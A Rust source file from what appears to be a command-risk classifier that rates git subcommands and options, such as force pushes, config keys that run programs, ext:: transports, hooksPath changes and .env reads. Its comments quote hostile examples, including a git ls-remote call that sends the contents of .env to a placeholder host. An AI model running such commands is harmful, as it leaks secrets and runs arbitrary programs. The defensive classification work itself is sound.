//! `git`, subcommand by subcommand.

use super::carried::{GitKey, git_config_key, git_value_script};
use super::{Input, Verdict, normalized, split_flags, take_carried};
use crate::Risk;
use crate::paths::FileOp;
use crate::shell::options::{self, Does, Found, GIT_CONFIG, GIT_GLOBALS};
use crate::shell::words::Word;

/// `git`: read-only subcommands are Low, changes to the repository Medium, discarding
/// work or publishing High, rewriting a remote's history Critical.
pub(super) fn git(input: &Input<'_>) -> Verdict {
    let mut v = Verdict::new(Risk::Low, "");
    // Global options, from the option table (`options.rs`): the first word that is
    // not one is the subcommand.
    let globals = options::parse_with(&GIT_GLOBALS, input.args);
    for found in &globals.found {
        global_option(&mut v, found, input);
    }
    for other in &globals.unknown {
        v.raise(
            Risk::High,
            format!("Runs git with the option {other}, which Warden does not know."),
        );
    }
    let start = globals.stopped_at.unwrap_or(input.args.len());
    let asks_version = globals
        .found
        .iter()
        .any(|f| matches!(f.opt.short, Some("v" | "h")));
    if asks_version {
        v.raise(Risk::Low, "Asks git for its version or help.");
        return v;
    }
    let args = normalized("git", &input.args[start..]);
    let Some(sub_word) = args.first() else {
        v.raise(
            Risk::Low,
            "Runs git without a subcommand, which prints its help.",
        );
        return v;
    };
    if sub_word.dynamic {
        v.raise(
            Risk::High,
            format!(
                "Runs git with a subcommand only known at run time ({}).",
                sub_word.text
            ),
        );
        v.opaque = true;
        return v;
    }
    let sub = sub_word.text.as_str();
    take_carried(&mut v, "git", &args);
    let rest = &args[1..];
    let (flags, operands) = split_flags(rest);
    let has = |f: &str| {
        flags
            .iter()
            .any(|x| x == f || x.starts_with(&format!("{f}=")))
    };
    let first_operand = operands.first().map(|w| w.text.as_str());
    // Files git reads or writes outside its repository: `--output=F` (log, diff,
    // format-patch), `--contents=F` (blame), and `diff --no-index A B`.
    for flag in &flags {
        if let Some(target) = flag.strip_prefix("--output=") {
            v.word(FileOp::Write, &Word::literal(target), input);
        } else if let Some(source) = flag.strip_prefix("--contents=") {
            v.word(FileOp::Read, &Word::literal(source), input);
        }
    }
    // `git diff /dev/null FILE` compares files outside git's index (as
    // `--no-index` does), so both are read.
    if sub == "diff" && (has("--no-index") || operands.iter().any(|o| o.text == "/dev/null")) {
        for operand in &operands {
            v.word(FileOp::Read, operand, input);
        }
    }
    secret_reads(&mut v, sub, &flags, &operands, rest, input);
    transports(&mut v, rest);
    if sub == "clone" {
        clone_settings(&mut v, rest);
    }
    egress(&mut v, sub, &operands);
    let (risk, reason): (Risk, String) = match sub {
        "status" | "log" | "diff" | "show" | "rev-parse" | "ls-files" | "ls-tree" | "blame"
        | "shortlog" | "describe" | "grep" | "cat-file" | "whatchanged" | "count-objects"
        | "merge-base" | "name-rev" | "for-each-ref" | "show-ref" | "rev-list" | "check-ignore"
        | "var" | "version" | "help" | "annotate" | "show-branch" | "ls-remote" | "range-diff"
        | "diff-tree" | "diff-files" | "diff-index" | "verify-commit" | "verify-tag" | "fsck"
        | "cherry" => {
            if sub == "cat-file" && flags.iter().any(|f| f.starts_with("--batch")) {
                (
                    Risk::Medium,
                    "Runs git cat-file --batch, which prints the objects named on its input, which Warden cannot see.".into(),
                )
            } else if has("--output") || has("--ext-diff") {
                (
                    Risk::Medium,
                    format!("Runs git {sub} with an option that writes a file or runs a program."),
                )
            } else {
                (Risk::Low, format!("Runs git {sub}, which only reads."))
            }
        }
        "branch" => {
            if has("-D") || (has("-d") && has("-f")) {
                (
                    Risk::High,
                    "Force-deletes a git branch, which can lose commits.".into(),
                )
            } else if operands.is_empty()
                || has("-l")
                || has("--list")
                || has("--show-current")
                || has("--contains")
            {
                (Risk::Low, "Lists git branches.".into())
            } else {
                (
                    Risk::Medium,
                    "Creates, renames or deletes a git branch.".into(),
                )
            }
        }
        "tag" => {
            if operands.is_empty() || has("-l") || has("--list") {
                (Risk::Low, "Lists git tags.".into())
            } else {
                (Risk::Medium, "Creates or deletes a git tag.".into())
            }
        }
        "remote" => match first_operand {
            None | Some("show" | "get-url") => (Risk::Low, "Lists git remotes.".into()),
            Some(_) => (Risk::Medium, "Changes git remotes.".into()),
        },
        "stash" => match first_operand {
            Some("list" | "show") => (Risk::Low, "Lists git stashes.".into()),
            Some("drop" | "clear") => (
                Risk::High,
                "Drops git stashes, which loses their changes.".into(),
            ),
            _ => (Risk::Medium, "Stashes or restores changes.".into()),
        },
        "config" => config(&mut v, rest, input),
        "worktree" => match first_operand {
            Some("list") => (Risk::Low, "Lists git worktrees.".into()),
            _ => (Risk::Medium, "Changes git worktrees.".into()),
        },
        "submodule" => match first_operand {
            None | Some("status" | "summary") => (Risk::Low, "Lists git submodules.".into()),
            _ => (Risk::Medium, "Changes git submodules.".into()),
        },
        "reflog" => match first_operand {
            None | Some("show") => (Risk::Low, "Shows the git reflog.".into()),
            _ => (
                Risk::High,
                "Changes the git reflog, which can lose history.".into(),
            ),
        },
        "add" | "commit" | "checkout" | "switch" | "merge" | "rebase" | "cherry-pick"
        | "revert" | "init" | "fetch" | "pull" | "mv" | "restore" | "am" | "apply" | "notes"
        | "gc" | "prune" | "repack" | "bisect" | "sparse-checkout" | "lfs" | "format-patch" => {
            if sub == "checkout" && has("-f")
                || sub == "restore" && operands.iter().any(|o| o.text == ".")
                || sub == "checkout" && operands.iter().any(|o| o.text == ".")
            {
                (
                    Risk::High,
                    format!("Runs git {sub} in a way that discards uncommitted changes."),
                )
            } else if sub == "commit" && has("-n") {
                (
                    Risk::Medium,
                    "Commits without running the repository's hooks.".into(),
                )
            } else {
                (
                    Risk::Medium,
                    format!("Runs git {sub}, which changes the repository."),
                )
            }
        }
        "reset" => {
            if has("--hard") || has("--merge") || has("--keep") {
                (
                    Risk::High,
                    "Runs git reset --hard, which discards uncommitted changes.".into(),
                )
            } else {
                (
                    Risk::Medium,
                    "Runs git reset, which moves the branch.".into(),
                )
            }
        }
        "clean" => {
            if has("-n") {
                (Risk::Low, "Runs git clean as a dry run.".into())
            } else {
                (
                    Risk::High,
                    "Runs git clean, which deletes untracked files for good.".into(),
                )
            }
        }
        "rm" => {
            if has("--cached") {
                (Risk::Medium, "Removes files from the git index.".into())
            } else {
                (Risk::High, "Deletes tracked files with git rm.".into())
            }
        }
        "push" => {
            let force_refspec = operands.iter().any(|o| o.text.starts_with('+'));
            if has("-f")
                || has("--force-with-lease")
                || has("--force-if-includes")
                || has("--mirror")
                || force_refspec
            {
                (
                    Risk::Critical,
                    "Force-pushes with git, which can overwrite others' history on the remote."
                        .into(),
                )
            } else if has("-d") || operands.iter().any(|o| o.text.starts_with(':')) {
                (Risk::High, "Deletes a branch on the git remote.".into())
            } else if has("-n") {
                (Risk::Low, "Runs git push as a dry run.".into())
            } else {
                (
                    Risk::High,
                    "Pushes commits to a git remote, which publishes them.".into(),
                )
            }
        }
        "clone" => (
            Risk::High,
            "Clones a git repository from the network.".into(),
        ),
        "filter-branch" | "filter-repo" | "replace" | "update-ref" | "symbolic-ref" => (
            Risk::High,
            format!("Runs git {sub}, which rewrites repository history or references."),
        ),
        _ => (
            Risk::High,
            format!("Runs git {sub}, a subcommand (or alias) Warden does not know."),
        ),
    };
    v.raise(risk, reason);
    if v.reason.is_empty() {
        v.reason = format!("Runs git {sub}.");
    }
    v
}

/// Judges one of git's global options.
fn global_option(v: &mut Verdict, found: &Found, input: &Input<'_>) {
    let name = found
        .opt
        .long
        .first()
        .copied()
        .or(found.opt.short)
        .unwrap_or("");
    let Some(value) = &found.value else {
        return;
    };
    match name {
        // `git -c KEY=VALUE`: judged by the key.
        "c" if value.dynamic => {
            v.opaque = true;
            v.raise(
                Risk::High,
                "Runs git with configuration only known at run time.",
            );
        }
        "c" => {
            let (key, val) = value.text.split_once('=').unwrap_or((&value.text, "true"));
            config_value(v, key, val, "Runs git with");
        }
        // `--config-env=KEY=VARIABLE`: the value is a variable's, which Warden does
        // not see here.
        "config-env" => {
            let key = value.text.split_once('=').map_or("", |(k, _)| k);
            if value.dynamic || git_config_key(key) == GitKey::Runs {
                v.opaque = true;
                v.raise(
                    Risk::High,
                    format!(
                        "Runs git with the setting {key} taken from an environment variable, a command Warden cannot read."
                    ),
                );
            } else if git_config_key(key) == GitKey::Moves
                || key.eq_ignore_ascii_case("core.hooksPath")
            {
                v.raise(
                    Risk::High,
                    format!("Runs git with the setting {key} taken from an environment variable, which moves where git reads configuration or programs."),
                );
            }
        }
        "exec-path" => v.raise(
            Risk::High,
            format!(
                "Runs git with its programs taken from {}, which can run any program.",
                value.text
            ),
        ),
        "C" => v.word(FileOp::Read, value, input),
        // Another repository's configuration and hooks run programs
        // (`core.fsmonitor`, `core.pager`): outside the workspace, as any unknown
        // program would.
        _ if found.opt.does == Does::Reads => {
            v.raise(Risk::Medium, "Runs git on another repository or work tree.");
            v.word(FileOp::Read, value, input);
            if value.dynamic || !input.resolve(&value.text).inside_workspace {
                v.raise(
                    Risk::High,
                    format!(
                        "Runs git on the repository or work tree {}, outside the workspace, whose configuration can make git run programs.",
                        value.text
                    ),
                );
            }
        }
        _ => {}
    }
}

/// The files git's reading subcommands print: `REV:PATH` and `:PATH` blobs (`git show
/// HEAD:.env`, `git cat-file -p HEAD:.env`), the paths after `--` of `log`, `diff`,
/// `show` and `blame`, and every file below the folder for `git grep --no-index` or
/// `--untracked` (which read files git does not track, `.env` among them). Each is
/// judged as a read of the file in the work tree, so a secret is as sensitive in
/// history as on disk.
fn secret_reads(
    v: &mut Verdict,
    sub: &str,
    flags: &[String],
    operands: &[Word],
    rest: &[Word],
    input: &Input<'_>,
) {
    if !matches!(
        sub,
        "show" | "cat-file" | "log" | "diff" | "blame" | "grep" | "archive" | "whatchanged"
    ) {
        return;
    }
    for operand in operands {
        // `:/TEXT` names the newest commit whose message matches TEXT, not a file.
        if operand.dynamic || operand.text.contains("://") || operand.text.starts_with(":/") {
            continue;
        }
        if let Some((_, path)) = operand.text.split_once(':')
            && !path.is_empty()
        {
            v.word(FileOp::Read, &Word::literal(path), input);
        }
    }
    if let Some(dashdash) = rest.iter().position(|w| w.text == "--") {
        for path in &rest[dashdash + 1..] {
            v.word(FileOp::Read, path, input);
        }
    } else if matches!(sub, "log" | "diff" | "show" | "whatchanged") {
        // Without `--`, git takes an operand that names a file as a path (`git log
        // -p .env` prints its history): each is judged as a read of that file. A
        // revision read as a path names nothing sensitive.
        for operand in operands.iter().filter(|o| !o.text.contains(':')) {
            v.word(FileOp::Read, operand, input);
        }
    } else if sub == "blame"
        && let Some(path) = operands.last()
    {
        v.word(FileOp::Read, path, input);
    }
    if sub == "grep"
        && flags
            .iter()
            .any(|f| f == "--no-index" || f == "--untracked")
    {
        super::files::sweep(v, "git grep", &[], &[], &[], input);
    }
}

/// `git config`, in both grammars (`git config --get KEY`, `git config get KEY`), its
/// options read from the option table (`options.rs`): reading a key is Low, printing
/// keys that can hold tokens Medium, setting a key that runs a program High with the
/// program judged as a script, and `-f FILE` is judged as a read or a write of FILE.
fn config(v: &mut Verdict, rest: &[Word], input: &Input<'_>) -> (Risk, String) {
    let parsed = options::parse_with(&GIT_CONFIG, rest);
    let has = |long: &str| parsed.given(long);
    let mut operands: &[Word] = &parsed.operands;
    let verb = operands
        .first()
        .filter(|w| !w.dynamic)
        .map(|w| w.text.as_str())
        .filter(|t| {
            matches!(
                *t,
                "list" | "get" | "set" | "unset" | "rename-section" | "remove-section" | "edit"
            )
        });
    if verb.is_some() {
        operands = &operands[1..];
    }
    let changes = matches!(
        verb,
        Some("set" | "unset" | "rename-section" | "remove-section")
    ) || [
        "add",
        "replace-all",
        "unset",
        "unset-all",
        "rename-section",
        "remove-section",
    ]
    .iter()
    .any(|l| has(l));
    let listing = verb == Some("list")
        || ["list", "get-regexp", "show-origin", "show-scope"]
            .iter()
            .any(|l| has(l));
    let reading = !changes
        && (verb == Some("get")
            || [
                "get",
                "get-all",
                "get-urlmatch",
                "get-color",
                "get-colorbool",
            ]
            .iter()
            .any(|l| has(l))
            || (verb.is_none() && operands.len() == 1));
    let editing = verb == Some("edit") || has("edit");
    if let Some(file) = parsed.value_of("file") {
        let op = if listing || reading {
            FileOp::Read
        } else {
            FileOp::Write
        };
        v.word(op, file, input);
    }
    let token_key = operands
        .first()
        .is_some_and(|k| k.dynamic || holds_token(&k.text.to_ascii_lowercase()));
    if !changes && (listing || (reading && token_key)) {
        v.secrets = true;
        return (
            Risk::Medium,
            "Prints git configuration that can hold tokens (in remote URLs, credential \
             helpers and extra headers)."
                .into(),
        );
    }
    if editing {
        return (
            Risk::Medium,
            "Opens git configuration in an editor, the program git is set to run.".into(),
        );
    }
    if listing || reading {
        return (Risk::Low, "Reads git configuration.".into());
    }
    let unsets = matches!(verb, Some("unset" | "remove-section"))
        || ["unset", "unset-all", "remove-section"]
            .iter()
            .any(|l| has(l));
    if unsets && !has("global") && !has("system") {
        return (Risk::Medium, "Removes git configuration.".into());
    }
    let key = operands.first();
    if let Some(key) = key.filter(|k| k.dynamic || git_config_key(&k.text) != GitKey::Inert) {
        // The value runs later, whenever git needs it: the option is High, and the
        // command it names is judged too.
        if let Some(value) = operands.get(1) {
            if value.dynamic || key.dynamic {
                v.opaque = true;
            } else {
                config_value(v, &key.text, &value.text, "Sets");
            }
        }
        return (
            Risk::High,
            format!(
                "Sets the git option {}, which makes git run a program or read configuration from elsewhere later.",
                key.text
            ),
        );
    }
    if let (Some(key), Some(value)) = (key, operands.get(1)) {
        config_value(v, &key.text, &value.text, "Sets");
    }
    if has("global") || has("system") {
        (
            Risk::High,
            "Changes the user's or the system's git configuration.".into(),
        )
    } else {
        (
            Risk::Medium,
            "Changes the repository's git configuration.".into(),
        )
    }
}

/// `git clone -c KEY=VALUE` (`--config`) writes the setting into the new repository
/// before its checkout, which runs what it names; `--template=DIR` copies DIR's hooks
/// into it, which run on the checkout.
fn clone_settings(v: &mut Verdict, rest: &[Word]) {
    let mut i = 0;
    while let Some(word) = rest.get(i) {
        i += 1;
        let t = word.text.as_str();
        let setting = match t {
            "-c" | "--config" => rest.get(i).inspect(|_| i += 1).cloned(),
            _ => t.strip_prefix("--config=").map(Word::literal),
        };
        if let Some(setting) = setting {
            if setting.dynamic {
                v.opaque = true;
                v.raise(
                    Risk::High,
                    "Clones with configuration only known at run time.",
                );
            } else {
                let (key, value) = setting
                    .text
                    .split_once('=')
                    .unwrap_or((&setting.text, "true"));
                config_value(v, key, value, "Clones with");
            }
        } else if t == "--template" || t.starts_with("--template=") {
            v.raise(
                Risk::High,
                "Clones with a template folder, whose hooks git copies into the repository and runs.",
            );
        }
    }
}

/// Remote URLs of the form `TRANSPORT::ADDRESS` make git run the program
/// `git-remote-TRANSPORT`; the `ext::` transport runs the command written in the
/// address (`git ls-remote 'ext::sh -c touch% p'` runs `sh -c 'touch p'` when
/// `protocol.ext.allow` lets it). Every operand and option value is looked at: the
/// command is judged as a script, and any such URL is High.
fn transports(v: &mut Verdict, rest: &[Word]) {
    for word in rest {
        if word.dynamic {
            continue;
        }
        let value = word
            .text
            .strip_prefix("--")
            .and_then(|t| t.split_once('=').map(|(_, v)| v))
            .unwrap_or(&word.text);
        let Some((transport, address)) = remote_helper(value) else {
            continue;
        };
        if transport.eq_ignore_ascii_case("ext") {
            v.raise(
                Risk::High,
                format!("Uses git's ext:: transport, which runs the command {address}."),
            );
            v.scripts.push(ext_command(address));
        } else {
            v.raise(
                Risk::High,
                format!(
                    "Uses the git transport {transport}::, which runs the program git-remote-{transport}."
                ),
            );
        }
    }
}

/// `TRANSPORT::ADDRESS` (git's remote-helper syntax): the transport and the address.
fn remote_helper(url: &str) -> Option<(&str, &str)> {
    let (transport, address) = url.split_once("::")?;
    let named = transport.starts_with(|c: char| c.is_ascii_alphabetic())
        && transport
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'));
    named.then_some((transport, address))
}

/// The command of an `ext::` address as a shell script: git splits it at blanks,
/// `% ` is a blank inside a word, `%%` a percent sign, and `%s`/`%S` the service git
/// runs (`git-upload-pack`); `%G` and `%V` add nothing to the command.
fn ext_command(address: &str) -> String {
    let mut words: Vec<String> = vec![String::new()];
    let mut chars = address.chars();
    while let Some(c) = chars.next() {
        let last = words.len() - 1;
        match c {
            '%' => match chars.next() {
                Some(' ') => words[last].push(' '),
                Some('%') => words[last].push('%'),
                Some('s') => words[last].push_str("upload-pack"),
                Some('S') => words[last].push_str("git-upload-pack"),
                Some('G' | 'V') => {
                    // `%G`/`%V` only pass their value as the next word, to git's
                    // own protocol.
                    let _ = chars.by_ref().take_while(|c| *c != ' ').count();
                }
                Some(other) => {
                    words[last].push('%');
                    words[last].push(other);
                }
                None => words[last].push('%'),
            },
            ' ' => words.push(String::new()),
            _ => words[last].push(c),
        }
    }
    words
        .iter()
        .filter(|w| !w.is_empty())
        .map(|w| super::carried::quote(w))
        .collect::<Vec<_>>()
        .join(" ")
}

/// Git configuration keys whose values can carry a token.
fn holds_token(key: &str) -> bool {
    (key.starts_with("remote.") && (key.ends_with(".url") || key.ends_with(".pushurl")))
        || key.starts_with("credential")
        || key.contains("extraheader")
        || key.starts_with("url.")
}

/// Git subcommands that contact a host: given a URL rather than a configured remote,
/// the host is the command's choice, and the URL itself can carry data out (`git
/// ls-remote https://x.example/$(cat .env)`): High, as any network tool.
fn egress(v: &mut Verdict, sub: &str, operands: &[Word]) {
    if !matches!(
        sub,
        "ls-remote" | "fetch" | "pull" | "push" | "clone" | "archive" | "remote" | "submodule"
    ) {
        return;
    }
    if let Some(url) = operands
        .iter()
        .find(|o| o.dynamic || looks_like_url(&o.text))
    {
        v.raise(
            Risk::High,
            format!(
                "Runs git {sub} against {}, a host the command names, which sends data over the network.",
                url.text
            ),
        );
    }
}

/// A git URL: `scheme://...`, `user@host:path`, or `host:path` with a dot in the host.
pub(in crate::shell) fn looks_like_url(text: &str) -> bool {
    if text.contains("://") {
        return true;
    }
    match text.split_once(':') {
        Some((host, path)) => {
            !host.is_empty()
                && !path.is_empty()
                && !host.contains('/')
                && (host.contains('@') || host.contains('.'))
        }
        None => false,
    }
}

/// Judges one git configuration `key=value`: a command it runs becomes a script of
/// the verdict, a key that moves configuration or programs is High, any other key
/// runs nothing.
fn config_value(v: &mut Verdict, key: &str, value: &str, verb: &str) {
    // `core.hooksPath` names the folder whose programs git runs on commit, merge,
    // checkout, push...: pointing it anywhere is an execution-config change, as
    // writing `.git/hooks` is. Pointing it at nothing turns the hooks off, as
    // `--no-verify` does.
    if key.eq_ignore_ascii_case("core.hooksPath") {
        if matches!(value.trim(), "" | "/dev/null") {
            v.raise(
                Risk::Medium,
                format!(
                    "{verb} core.hooksPath to nothing, which turns the repository's hooks off."
                ),
            );
        } else {
            v.raise(
                Risk::Critical,
                format!(
                    "{verb} core.hooksPath to {value}, so git runs the programs there as hooks on commit, merge, checkout and push."
                ),
            );
        }
        return;
    }
    if let Some((transport, address)) = remote_helper(value) {
        v.raise(
            Risk::High,
            format!(
                "{verb} the git option {key} to a URL with the transport {transport}::, which runs a program when git uses it."
            ),
        );
        if transport.eq_ignore_ascii_case("ext") {
            v.scripts.push(ext_command(address));
        }
    }
    match git_config_key(key) {
        GitKey::Runs => {
            if let Some(script) = git_value_script(key, value) {
                v.raise(
                    Risk::Low,
                    format!("{verb} the git option {key}, whose command is judged on its own."),
                );
                v.scripts.push(script);
            }
        }
        GitKey::Moves => v.raise(
            Risk::High,
            format!("{verb} the git option {key}, which moves where git reads configuration, hooks or repositories."),
        ),
        GitKey::Inert => {}
    }
}
